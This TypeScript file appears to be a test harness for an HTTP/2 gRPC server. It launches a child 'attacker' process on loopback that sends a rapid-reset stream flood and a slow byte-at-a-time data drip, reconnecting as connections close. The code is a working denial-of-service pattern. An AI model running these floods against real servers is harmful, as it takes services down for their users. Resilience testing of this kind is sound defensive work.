import { setTimeout as sleep } from 'node:timers/promises';
import { callHeaders, frame, frameType, headerBlock, RawPeer } from '../hostile/raw-http2.ts';

/*
 * An attacker, `attacker-process.ts PORT MS`: for so long it opens calls and resets them at once, and beside that sends a message byte by byte,
 * each on connections that it makes anew when they are closed. On loopback, and a bounded number of frames a second.
 */

const endHeaders = 4;
const resetsAtOnce = 50;
const bytesAtOnce = 500;
const pauseMs = 20;

const [port, lasts] = process.argv.slice(2).map(Number) as [number, number];
const until = Date.now() + lasts;
const headers = headerBlock(callHeaders('/faults.Replica/Put'));
const prefix = Buffer.from([0, 0, 8, 0, 0]);
const oneByte = Buffer.from([10]);
const cancel = Buffer.from([0, 0, 0, 8]);
const counts = { resets: 0, bytes: 0, connections: 0 };

process.on('disconnect', () => process.exit(0));
await Promise.all([attack(rapidResets), attack(singleBytes)]);
process.send?.(counts);
process.disconnect();

async function attack(send: (peer: RawPeer) => Promise<void>): Promise<void> {
  while (Date.now() < until) {
    const peer = await RawPeer.open(port).catch(() => undefined);
    counts.connections += 1;
    if (peer !== undefined) await send(peer);
    await peer?.[Symbol.asyncDispose]();
    await sleep(pauseMs);
  }
}

/** W-01. */
async function rapidResets(peer: RawPeer): Promise<void> {
  for (let id = 1; going(peer); await sleep(pauseMs)) {
    for (let n = 0; n < resetsAtOnce; n++, id += 2) {
      peer.write(frame(frameType.headers, endHeaders, id, headers), frame(frameType.reset, 0, id, cancel));
      counts.resets += 1;
    }
  }
}

/** W-08. */
async function singleBytes(peer: RawPeer): Promise<void> {
  peer.write(frame(frameType.headers, endHeaders, 1, headers), frame(frameType.data, 0, 1, prefix));
  const frames = Array.from({ length: bytesAtOnce }, () => frame(frameType.data, 0, 1, oneByte));
  for (let sent = 0; going(peer) && sent < 500_000; sent += bytesAtOnce) {
    peer.write(...frames);
    counts.bytes += bytesAtOnce;
    await peer.drained();
    await sleep(pauseMs);
    // Refused, not closed: the next one.
    if (peer.received.includes(frameType.reset) || peer.received.includes(frameType.headers)) return;
  }
}

function going(peer: RawPeer): boolean {
  return peer.open && Date.now() < until && !peer.received.includes(frameType.goaway);
}
